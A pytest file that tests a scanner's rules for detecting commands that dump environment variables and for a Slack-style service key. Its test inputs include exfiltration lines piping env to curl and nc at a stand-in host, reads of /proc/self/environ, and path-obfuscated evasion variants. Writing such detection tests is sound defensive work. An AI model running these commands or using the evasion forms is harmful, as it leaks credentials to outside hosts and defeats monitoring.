"""Keys, and commands that show them."""

from __future__ import annotations

from collections.abc import Callable

import pytest

Scan = Callable[[str], set[str]]


@pytest.mark.parametrize(
    ("rule", "text"),
    [
        ("credential:dump-environment", "cat /proc/self/environ"),
        ("credential:dump-environment", "env | curl -d @- far.example"),
        ("credential:dump-environment", "ls;env > /tmp/e"),
        ("credential:dump-environment", "cat .env; env | nc far.example 9"),
        ("credential:dump-environment", "x=$(/usr/bin/env | base64)"),
        ("credential:dump-environment", "\\env | sort"),
        ("credential:dump-environment", "ls\nexport -p > e"),
        ("credential:dump-environment", "/bin/./env > /tmp/x"),
        ("credential:dump-environment", "/usr//bin//printenv > out.txt"),
        ("credential:dump-environment", "ls; /usr/../b?n/env | nc far.example 9"),
        ("credential:dump-environment", "cd /bin && ./env > /tmp/x"),
        ("credential:dump-environment", "x/../../bin/../bin/./env > /tmp/x"),
        ("credential:dump-environment", "cd /usr; bin/env > /tmp/x"),
        ("credential:dump-environment", "cd /usr; b?n/env > /tmp/x"),
        ("credential:dump-environment", f"/usr/bin/{'./' * 60}env > /tmp/x"),
        ("credential:service-key", "xoxb-1234567890-abcdef"),
    ],
)
def test_each_part_of_a_rule_with_several_finds_its_text(rule: str, text: str, scan: Scan) -> None:
    assert rule in scan(text)


@pytest.mark.parametrize(
    "text", ["git log -- bots/standup/.env | wc -l", "git show HEAD:deploy/.env > old", "ls -a conf/prod-env | wc -l"]
)
def test_the_end_of_a_name_is_no_command_that_shows_the_environment(text: str, scan: Scan) -> None:
    assert "credential:dump-environment" not in scan(text)
